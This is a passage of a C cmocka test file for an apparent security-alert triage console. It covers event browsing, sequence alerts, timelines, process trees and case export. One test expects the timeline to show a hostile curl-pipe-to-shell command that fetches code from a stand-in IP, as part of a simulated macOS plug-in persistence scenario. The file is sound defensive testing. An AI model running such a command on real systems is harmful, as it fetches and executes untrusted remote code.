	assert_true(screen_has("events 10001-10051"));
	keys("k");
	assert_true(screen_has("events 1-10000 of more"));
	/* / finds a row on the next page; n not finding another leaves the browser where it was */
	keys("g/needle-late\n");
	assert_true(screen_has("events 10001-10051"));
	assert_true(screen_has("needle-late"));
	keys("n");
	assert_true(screen_has("events 10001-10051"));
	assert_string_equal(app_message(app), "not found: needle-late");
	keys("N");
	assert_string_equal(app_message(app), "not found: needle-late");
	/* s sorts by the next column, S reverses; the heading says so */
	keys("ss");
	assert_true(screen_has("sorted by event, ascending (this page)"));
	keys("ss");
	assert_true(screen_has("sorted by detail, ascending"));
	keys("S");
	assert_true(screen_has("sorted by detail, descending"));
	check_screen("events-sorted-80x24");
	keys("s");
	assert_false(screen_has("sorted by"));
	/* a bad query comes back in its prompt, the reason said; Esc keeps the filter there was */
	keys("\\process.name:bash and (\n");
	assert_true(screen_has("KQL error at column"));
	assert_true(screen_has("Events matching"));
	assert_true(screen_has("process.name:bash and ("));
	app_handle_key(app, KEY_BACKSPACE);
	app_handle_key(app, KEY_BACKSPACE);
	app_handle_key(app, KEY_BACKSPACE);
	app_handle_key(app, KEY_BACKSPACE);
	app_handle_key(app, KEY_BACKSPACE);
	app_handle_key(app, '\n');
	assert_true(screen_has("Events · KQL process.name:bash"));
	assert_true(screen_has("4307 events"));
	screen_resize(45, 160);
	app_handle_key(app, KEY_RESIZE);
	check_screen("events-bash-160x45");
	/* the field table: / finds a field, s sorts by name, S reverses */
	keys("i");
	keys("/entity\n");
	assert_true(screen_has("process.entity_id"));
	keys("s");
	assert_true(screen_has("sorted by name"));
	check_screen("fields-by-name-160x45");
	keys("S");
	assert_true(screen_has("sorted by name, descending"));
	screen_resize(24, 80);
	app_handle_key(app, KEY_RESIZE);
	check_screen("fields-by-name-descending-80x24");
	keys("?");
	assert_true(screen_has("Help"));
}

/* The rows of the screen that start with the timeline's mark. */
static int marked_rows(void)
{
	int n = 0;
	for (int y = 5; y < LINES - 1; y++) {
		char row[1024];
		screen_row(y, row, sizeof(row));
		n += strncmp(row, "▶", strlen("▶")) == 0;
	}
	return n;
}

/* A sequence alert's building blocks open from its Overview with r, as its related alerts do
 * (Kibana's alerts table opens a block from the sequence's expanded group; the queue leaves
 * them out). The chooser marks which list each comes from; the block opens as an alert. */
static void test_building_blocks_open_from_the_overview(void **state)
{
	(void)state;
	check_screen("kibana-sequence-queue-100x24"); /* the sequence alert alone */
	keys("\n2");                                  /* the Guide tab opens with the rule's [metadata] */
	assert_true(screen_has("maturity production · created 2024/01/02 · updated 2024/03/04 · integration endpoint"));
	keys("1G"); /* the Overview's end: its building blocks */
	check_screen("kibana-sequence-overview-100x24");
	keys("r");
	check_screen("building-block-choice-100x24");
	keys("2");
	assert_true(screen_has("Alert kibana:bb-two"));
	assert_false(screen_has("Building blocks: r opens one")); /* a block has none under it */
	keys("q");
	assert_true(screen_has("SEVERITY RSK TIME (UTC)")); /* back to the queue, as from a related alert */
}

/* b shows building-block alerts: a sequence's blocks follow their sequence alert, marked as
 * under it (└, ` in ASCII), in their group.index order whichever way the queue is sorted; the
 * counts stay the sequence alert's. */
static void test_building_blocks_nest_under_their_sequence_in_the_queue(void **state)
{
	(void)state;
	keys("b");
	check_screen("kibana-sequence-building-blocks-100x24");
	keys("S"); /* oldest first: the blocks stay under their sequence alert */
	app_draw(app);
	char row[1024];
	screen_row(2, row, sizeof(row));
	assert_non_null(strstr(row, "12:00:03"));
	screen_row(3, row, sizeof(row));
	assert_non_null(strstr(row, "12:00:01 mac-bb         └ Plist"));
	screen_row(4, row, sizeof(row));
	assert_non_null(strstr(row, "12:00:02 mac-bb         └ Plist"));
	draw_set_ascii(1);
	app_draw(app);
	int ascii = screen_has("12:00:01 mac-bb         ` Plist wri~then loaded");
	draw_set_ascii(0);
	assert_true(ascii);
	keys("jj\n"); /* a block opens as an alert */
	assert_true(screen_has("Alert kibana:bb-two"));
	keys("q");
	keys("b");
	assert_false(screen_has("└ Plist"));
	assert_true(screen_has("open 1 · ack 0 · closed 0"));
}

/* t shows times in the analyst's zone (TZ), labelled by its abbreviation; UTC is the default
 * and says so. The demo's critical alert is at 08:05:29 UTC on 2026-11-20: 03:05:29 EST. */
static void test_times_in_the_analysts_zone(void **state)
{
	(void)state;
	char *old = getenv("TZ") ? xstrdup(getenv("TZ")) : NULL;
	setenv("TZ", "America/New_York", 1);
	tzset();
	assert_true(screen_has("TIME (UTC)"));
	keys("jjjjj\n");
	assert_true(screen_has("2026-11-20 08:05:29 UTC"));
	keys("t");
	assert_true(screen_has("2026-11-20 03:05:29 EST"));
	keys("q");
	assert_true(screen_has("TIME (EST)"));
	keys("t");
	assert_true(screen_has("TIME (UTC)"));
	if (old)
		setenv("TZ", old, 1);
	else
		unsetenv("TZ");
	free(old);
	tzset();
}

static void test_sequence_alert_related_alerts_and_rule_notes(void **state)
{
	(void)state;
	check_screen("demo-queue-132x45");
	keys("jjjjj\n"); /* the sequence: a plug-in written on mac-lisbon-01, then the loader's child */
	check_screen("sequence-overview-132x45");
	/* r: the related alerts to choose from; 2 opens the seed rule's, on the same tab */
	keys("r");
	assert_true(screen_has("Open a related alert (Enter, or its number):"));
	check_screen("related-choice-132x45");
	keys("2");
	assert_true(screen_has("Alert c2a958395543"));
	assert_true(screen_has("DirectoryService Plugin Installed Then Run (casebook companion)")); /* its related */
	keys("r");
	app_handle_key(app, 27);
	keys("K"); /* back to the sequence: the queue's alert before the seed rule's */
	keys("3");
	check_screen("sequence-timeline-132x45");
	assert_int_equal(marked_rows(), 2);
	/* T: the process tree of the selected event (the alert's own: ZoomUpdate's write) */
	keys("T");
	assert_true(screen_has("Process tree"));
	assert_true(screen_has("▶ └─ ZoomUpdate (pid 745) amara [2 alerts]  /Users/amara/Downloads/ZoomUpdate.app"));
	keys("q");
	assert_true(screen_has("±10m · all processes"));
	/* \ filters the timeline by KQL: the shell's events, and the alert's own always */
	keys("\\process.name:sh\n");
	assert_true(screen_has("· KQL process.name:sh"));
	assert_true(screen_has("/bin/sh -c curl -s http://203.0.113.77/k | sh"));
	assert_false(screen_has("launchctl kickstart"));
	assert_true(screen_has("▶ 08:05:29 file/modification    ZoomUpdate"));
	/* i: the selected event's fields; Enter keeps the events with the value under the cursor */
	keys("i");
	assert_true(screen_has("Event fields"));
	assert_true(screen_has("file.path"));
	keys("-");
	assert_true(screen_has("· KQL (process.name:sh) and not "));
	keys("\\\x15\n"); /* Ctrl-U empties the prompt: no filter */
	assert_false(screen_has("· KQL"));
	/* p pivots on the selected row's process: the launchctl below the alert's event */
	keys("jp");
	assert_true(screen_has(" · process launchctl (pid 747) · category all"));
	assert_true(screen_has("launchctl kickstart -k system/com.apple.dspluginhelperd"));
	assert_false(screen_has("file/modification    ZoomUpdate"));
	keys("p");
	assert_true(screen_has("file/modification    ZoomUpdate"));
	/* W sets the window's ends; the heading says them */
	keys("W2026-11-20T08:05:30Z 2026-11-20T08:05:40Z\n");
	assert_true(screen_has(" 2026-11-20 08:05:30 – 2026-11-20 08:05:40 · all processes"));
	assert_false(screen_has("08:05:29 file/rename"));
	assert_true(screen_has("08:05:30 process/exec         launchctl"));
	keys("Wnonsense\n");
	assert_true(screen_has("the window is two ISO 8601 times"));
	keys("W2026-11-20T07:55:29Z 2026-11-20T08:15:29Z\n"); /* back to ±600 s */
	/* / searches the timeline's rows: the selection moves to the match (T shows whose tree) */
	keys("/kickstart\n");
	keys("T");
	assert_true(screen_has("▶    └─ launchctl (pid 747)")); /* under zsh and ZoomUpdate */
	keys("q");

	/* v: the event browser, over the whole case, narrowed by KQL */
	keys("qv");
	assert_true(screen_has(" Events · all"));
	keys("\\process.name:launchctl\n");
	assert_true(screen_has(" Events · KQL process.name:launchctl"));
	assert_true(screen_has("launchctl kickstart -k system/com.apple.dspluginhelperd"));
	assert_false(screen_has("ZoomUpdate"));
	keys("i");
	assert_true(screen_has("Event fields"));
	keys("q\n");
	assert_true(screen_has("Event — Enter folds"));
	keys("qq");
	assert_true(screen_has("casebook"));
	keys("q");
	keys("j\n"); /* the seed rule's alert on the same write: the sequence is among its related alerts */
	app_draw(app);
	keys("2G");
	check_screen("seed-guide-end-132x45");
}

/* An empty queue says what is true: a case with events and no alerts is not "load events". */
static void test_empty_queue_says_what_is_true(void **state)
{
	(void)state;
	struct store *s;
	char *err = NULL;
	assert_int_equal(store_open(tu_path("empty.db"), STORE_CREATE, &s, &err), 0);
	struct app_options ao = {.analyst = "amy", .db_name = "empty.db", .clock = fixed_clock, .colors = 0};
	struct app *none = app_new(s, &ao);
	assert_int_equal(app_load(none), 0);
	struct app *saved = app;
	app = none;
	assert_true(screen_has("No alerts in this case yet: it has no events."));
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(s, "tests/fixtures/hostile.ndjson", &o, &c), INGEST_OK);
	fclose(devnull);
	keys("R");
	char want[120];
	snprintf(want, sizeof(want), "No alerts: %llu events in this case, and no rule has alerted on them.",
	         (unsigned long long)c.added);
	assert_true(screen_has(want));
	assert_true(screen_has("Run the rules:   casebook detect"));
	app = saved;
	app_free(none);
	store_close(s);
}

/* H: a row per host with its highest severity and its alerts counted; Enter shows them under
 * it; A on the host's row acknowledges all of them; narrow screens drop risk, then time. */
static void test_host_groups(void **state)
{
	(void)state;
	keys("H");
	check_screen("demo-hosts-132x45");
	keys("j\n"); /* mac-lisbon-01's row: its five alerts under it */
	keys("S");   /* oldest first: the host's alerts too */
	check_screen("demo-hosts-expanded-132x45");
	keys("S");
	keys("A");
	assert_string_equal(app_message(app), "5 alerts acknowledged");
	assert_true(screen_has("open 6 · ack 5 · closed 0 │ open · newest first · hosts"));
	assert_false(screen_has("mac-lisbon-01"));
	keys("f"); /* acknowledged: the host's five alerts, still one row */
	check_screen("demo-hosts-acknowledged-132x45");
	keys("fff");
	screen_resize(24, 80);
	app_handle_key(app, KEY_RESIZE);
	check_screen("demo-hosts-80x24");
	screen_resize(16, 60);
	app_handle_key(app, KEY_RESIZE);
	keys("H");
	check_screen("demo-queue-60x16");
}

/* The built-in editor edits where its cursor is; with $EDITOR set that editor writes the note,
 * and when it fails the file it wrote is kept and named. */
static void test_note_editors(void **state)
{
	(void)state;
	keys("\n6a");
	keys("hello world");
	keys("\x01X\x05!"); /* Ctrl-A, X, Ctrl-E, ! */
	assert_true(screen_has("Xhello world!▏"));
	app_handle_key(app, KEY_LEFT);
	assert_true(screen_has("Xhello world▏!"));
	app_handle_key(app, CTRL('d'));
	assert_string_equal(app_message(app), "note saved");
	assert_true(screen_has("Xhello world!"));
	/* an editor that writes the note */
	char script[512], fail[512];
	snprintf(script, sizeof(script), "%s", tu_path("editor.sh"));
	snprintf(fail, sizeof(fail), "%s", tu_path("failing-editor.sh"));
	const char *writes = "#!/bin/sh\nprintf 'written in the editor\\n\\n' > \"$1\"\n";
	const char *fails = "#!/bin/sh\nprintf 'half a thought' > \"$1\"\nexit 3\n";
	tu_write(script, writes, strlen(writes));
	tu_write(fail, fails, strlen(fails));
	assert_int_equal(chmod(script, 0700), 0);
	assert_int_equal(chmod(fail, 0700), 0);
	struct app_options *o = &app->o;
	o->editor = script;
	keys("a");
	assert_string_equal(app_message(app), "note saved");
	assert_true(screen_has("written in the editor"));
	o->editor = fail;
	keys("a");
	const char *msg = app_message(app);
	assert_non_null(strstr(msg, "the editor failed (exit status not 0): whatever it wrote is kept in "));
	const char *kept = strstr(msg, " kept in ") + strlen(" kept in ");
	struct strbuf text;
	strbuf_init(&text, 64);
	FILE *f = fopen(kept, "r");
	assert_non_null(f);
	assert_int_equal(strbuf_read_stream(&text, f), 0);
	fclose(f);
	assert_string_equal(text.buf, "half a thought");
	unlink(kept);
	assert_false(screen_has("half a thought"));
	/* a NUL byte would cut the note short: it is refused, and the file kept whole */
	char nul[512];
	snprintf(nul, sizeof(nul), "%s", tu_path("nul-editor.sh"));
	const char *writes_nul = "#!/bin/sh\nprintf 'before\\000after\\n' > \"$1\"\n";
	tu_write(nul, writes_nul, strlen(writes_nul));
	assert_int_equal(chmod(nul, 0700), 0);
	o->editor = nul;
	keys("a");
	msg = app_message(app);
	assert_non_null(
	    strstr(msg, "the note has a NUL byte at offset 6; a note is text, so it was not saved: it is kept in "));
	kept = strstr(msg, " kept in ") + strlen(" kept in ");
	f = fopen(kept, "rb");
	assert_non_null(f);
	strbuf_reset(&text);
	assert_int_equal(strbuf_read_stream(&text, f), 0);
	fclose(f);
	assert_int_equal(text.len, 13);
	assert_memory_equal(text.buf, "before\0after\n", 13);
	unlink(kept);
	strbuf_release(&text);
	assert_false(screen_has("before"));
	o->editor = NULL;
}

/* mutt's J and K, Esc to leave a view, and Ctrl-C, which never takes a note being written. */
static void test_alert_to_alert_esc_and_ctrl_c(void **state)
{
	(void)state;
	keys("\n"); /* the queue's first alert: the newest */
	assert_true(screen_has("08:07:22 UTC"));
	keys("3JJJ"); /* the next ones, on the same tab */
	assert_true(screen_has("±10m · all processes"));
	assert_true(screen_has("08:05:33 UTC"));
	keys("KKK");
	assert_true(screen_has("08:07:22 UTC"));
	keys("K");
	assert_string_equal(app_message(app), "this is the queue's first alert");
	app_handle_key(app, KEY_RIGHT); /* arrows switch tabs */
	assert_true(screen_has("[ ]  1."));
	app_handle_key(app, 27); /* Esc leaves the alert */
	assert_true(screen_has("FILE / PROCESS"));
	app_handle_key(app, 27); /* and does nothing on the queue */
	assert_int_equal(app_done(app), 0);
	keys("\n6a");
	keys("draft");
	app_handle_key(app, CTRL('c'));
	assert_true(screen_has("Discard this note? (y/n)"));
	keys("n");
	assert_true(screen_has("draft"));
	app_handle_key(app, CTRL('d'));
	assert_string_equal(app_message(app), "note saved");
	app_handle_key(app, CTRL('c')); /* with nothing open, Ctrl-C quits */
	assert_int_equal(app_done(app), 1);
}

/* Each alert view owns its state (tui/view.h), as tig's views do: an alert opened over another
 * keeps its own tab and scroll, and q comes back to the one under it as it was. */
static void test_two_alert_views_keep_their_own_state(void **state)
{
	(void)state;
	keys("\n3jj"); /* the queue's first alert: its timeline, two rows past the alert's event */
	app_draw(app);
	struct alertview *first = alert_of(app);
	assert_non_null(first);
	char uuid[80];
	snprintf(uuid, sizeof(uuid), "%s", first->alert.uuid);
	size_t sel = first->sel[TAB_timeline], top = first->top[TAB_timeline];
	assert_true(sel >= 2);
	/* the queue's second alert over it: a view of its own, on the Overview */
	alert_push(app, &app->q.rows[app->q.order[1]]);
	struct alertview *second = alert_of(app);
	assert_non_null(second);
	assert_ptr_not_equal(second, first);
	assert_string_not_equal(second->alert.uuid, uuid);
	assert_int_equal(second->tab, TAB_overview);
	keys("3g5"); /* its timeline's first row, then its Response tab */
	app_draw(app);
	assert_int_equal(second->tab, TAB_response);
	assert_int_equal(second->sel[TAB_timeline], 0);
	assert_int_equal(first->tab, TAB_timeline); /* the one under it is as it was */
	assert_int_equal(first->sel[TAB_timeline], sel);
	/* q: back to the first alert, on its tab and row */
	keys("q");
	assert_ptr_equal(alert_of(app), first);
	assert_true(view_top(app) == &alert_view);
	app_draw(app);
	assert_string_equal(alert_of(app)->alert.uuid, uuid);
	assert_int_equal(first->tab, TAB_timeline);
	assert_int_equal(first->sel[TAB_timeline], sel);
	assert_int_equal(first->top[TAB_timeline], top);
	assert_true(screen_has("±10m · all processes"));
	keys("q");
	assert_null(alert_of(app));
	assert_true(screen_has("FILE / PROCESS"));
}

/* Marks by hand (m), like the selected alert (M: its rule), the count on the status line; x
 * offers the formats that make the marked alerts one case and writes one case report; a
 * kibana-status body of alerts casebook raised says on the status line that it names none. */
static void test_marking_and_one_case_export(void **state)
{
	(void)state;
	screen_resize(45, 160);
	app_handle_key(app, KEY_RESIZE);
	keys("m"); /* the newest alert, by hand; the cursor moves on */
	assert_int_equal(queue_marked(&app->q), 1);
	keys("M");
	check_screen("mark-like-160x45");
	keys("1"); /* every shown alert of the selected one's rule */
	size_t marked = queue_marked(&app->q);
	assert_true(marked > 1);
	char want[160];
	snprintf(want, sizeof(want), "%zu more marked, %zu in all", marked - 1, marked);
	assert_string_equal(app_message(app), want);
	check_screen("marked-160x45");
	keys("x");
	check_screen("export-case-dialog-160x45");
	keys("1"); /* markdown (one case) */
	app_handle_key(app, CTRL('u'));
	keys(tu_path("case.md"));
	keys("\n");
	snprintf(want, sizeof(want), "exported %zu alerts to %s", marked, tu_path("case.md"));
	assert_string_equal(app_message(app), want);
	FILE *f = fopen(tu_path("case.md"), "r");
	assert_non_null(f);
	char head[64] = "";
	assert_non_null(fgets(head, sizeof(head), f));
	fclose(f);
	snprintf(want, sizeof(want), "# Case: %zu alerts on ", marked);
	assert_memory_equal(head, want, strlen(want));
	/* the marks stay for the next export: Kibana's statuses name none of casebook's alerts */
	assert_int_equal(queue_marked(&app->q), marked);
	screen_resize(24, 80);
	app_handle_key(app, KEY_RESIZE);
	keys("k"); /* a key clears the message: the status line shows the count and the keys */
	check_screen("marked-80x24");
	keys("x");
	check_screen("export-case-dialog-80x24");
	keys("7"); /* kibana-status */
	app_handle_key(app, CTRL('u'));
	keys(tu_path("case.kibana-status.json"));
	keys("\n");
	assert_non_null(strstr(app_message(app), "alerts raised by casebook, not Kibana"));
	keys("M4"); /* none: clear the marks */
	assert_int_equal(queue_marked(&app->q), 0);
	assert_string_equal(app_message(app), "no alert marked");
}

/* ---- issue 27, input a user makes: LANG=C, the help pager ---- */

static int teardown_ascii(void **state)
{
	draw_set_ascii(0); /* a failed test must not leave the next ones in ASCII or in C */
	setlocale(LC_ALL, "C.UTF-8");
	return teardown(state);
}

/* LANG=C (a C locale, as over SSH without LANG): the console's own separators and glyphs are
 * ASCII in the same columns; each used to be one '?' a byte (the heading's "·" was "??"). */
static void test_lang_c_screens(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C");
	draw_set_ascii(1);
	check_screen("lang-c-queue-80x24");
	keys("j\n"); /* the hostile alert */
	check_screen("lang-c-overview-80x24");
	keys("3");
	check_screen("lang-c-timeline-80x24");
	keys("q?");
	check_screen("lang-c-help-80x24");
	keys("q");
	screen_resize(45, 160);
	app_handle_key(app, KEY_RESIZE);
	check_screen("lang-c-queue-160x45");
}

/* The ? help scrolls with the keys of every list and says where it is; its key column is
 * as wide as the widest keys ("Shift-Tab ←"), counted in columns, not bytes. */
static void test_help_scrolls_and_aligns(void **state)
{
	(void)state;
	keys("?");
	assert_true(screen_has("   j ↓         next row (or scroll down)"));
	assert_true(screen_has("   g Home      first row"));
	assert_true(screen_has("lines 1-22 of 133"));
	app_handle_key(app, KEY_END);
	check_screen("help-end-80x24");
	keys("g");
	assert_true(screen_has("lines 1-22 of 133"));
	keys("G");
	assert_true(screen_has("lines 112-133 of 133"));
	keys("j"); /* the last page stays the last */
	assert_true(screen_has("lines 112-133 of 133"));
	app_handle_key(app, KEY_PPAGE);
	assert_true(screen_has("lines 92-113 of 133"));
	keys("\x15"); /* Ctrl-U: half a page */
	assert_true(screen_has("lines 82-103 of 133"));
	keys("\x04"); /* Ctrl-D */
	assert_true(screen_has("lines 92-113 of 133"));
	app_handle_key(app, KEY_HOME);
	assert_true(screen_has("lines 1-22 of 133"));
	keys("kk"); /* the first line stays the first */
	assert_true(screen_has("lines 1-22 of 133"));
	keys("q");
	screen_resize(45, 160);
	app_handle_key(app, KEY_RESIZE);
	keys("?G");
	check_screen("help-end-160x45");
	keys("q");
}

static int answered;
static void on_answer(struct app *a, int yes, void *data)
{
	(void)a, (void)data;
	answered = yes ? 1 : 2;
}

/* Dialogs are framed and wrap a long question instead of cutting it, at 80x24 and 160x45. */
static void test_dialogs_are_framed_and_wrap_their_question(void **state)
{
	(void)state;
	const char *question =
	    "This exception matches every binary Apple signs (process.code_signature.subject_name is Software "
	    "Signing), 1,204 events on 12 hosts of this case, the attack's own mv among them. Save it anyway? (y/n)";
	answered = 0;
	dialog_confirm(app, question, on_answer, NULL, NULL);
	check_screen("confirm-long-question-80x24");
	keys("n");
	assert_int_equal(answered, 2);
	screen_resize(45, 160);
	app_handle_key(app, KEY_RESIZE);
	dialog_confirm(app, question, on_answer, NULL, NULL);
	check_screen("confirm-long-question-160x45");
	keys("y");
	assert_int_equal(answered, 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_queue_model),
	    cmocka_unit_test(test_queue_mark_like),
	    cmocka_unit_test(test_queue_nests_building_blocks_under_their_sequence),
	    cmocka_unit_test(test_string_pool),
	    cmocka_unit_test(test_text_editing_keys),
	    cmocka_unit_test(test_queue_sort_paths_agree_on_random_rows),
	    cmocka_unit_test(test_queue_sorts_agree_whatever_the_row_order),
	    cmocka_unit_test(test_key_table),
	    cmocka_unit_test(test_histogram_counts_and_bars),
	    cmocka_unit_test(test_tab_hints_come_from_the_key_table),
	    cmocka_unit_test_setup_teardown(test_screens_80x24, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_screens_132x40_and_resizes, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_ascii_terminal, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_lang_c_screens, setup, teardown_ascii),
	    cmocka_unit_test_setup_teardown(test_help_scrolls_and_aligns, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_dialogs_are_framed_and_wrap_their_question, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_sequence_alert_related_alerts_and_rule_notes, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_times_in_the_analysts_zone, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_building_blocks_open_from_the_overview, setup_kibana_sequence,
	                                    teardown),
	    cmocka_unit_test_setup_teardown(test_building_blocks_nest_under_their_sequence_in_the_queue,
	                                    setup_kibana_sequence_again, teardown),
	    cmocka_unit_test_setup_teardown(test_alert_to_alert_esc_and_ctrl_c, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_two_alert_views_keep_their_own_state, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_host_groups, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_marking_and_one_case_export, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_note_editors, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_empty_queue_says_what_is_true, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_timeline_of_9001_events_reaches_its_end, setup_long_timeline,
	                                    teardown),
	    cmocka_unit_test_setup_teardown(test_exception_on_a_642_byte_path_matches, setup_long_path, teardown),
	    cmocka_unit_test_setup_teardown(test_exception_builder_screens, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_exception_builder_keeps_its_message, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_click_on_a_scrolled_queue, setup_many_alerts, teardown),
	    cmocka_unit_test_setup_teardown(test_a_failed_load_is_said, setup_many_alerts, teardown),
	    cmocka_unit_test_setup_teardown(test_a_deep_process_tree, setup_deep_tree, teardown),
	    cmocka_unit_test_setup_teardown(test_process_tree_view, setup_demo, teardown),
	    cmocka_unit_test_setup_teardown(test_timeline_across_days, setup_many_events, teardown),
	    cmocka_unit_test_setup_teardown(test_browser_pages_past_ten_thousand_events, setup_many_events, teardown),
	};
	if (getenv("TUI_TESTS")) /* a pattern: run only those (cmocka's filter) */
		cmocka_set_test_filter(getenv("TUI_TESTS"));
	return cmocka_run_group_tests(tests, NULL, NULL);
}
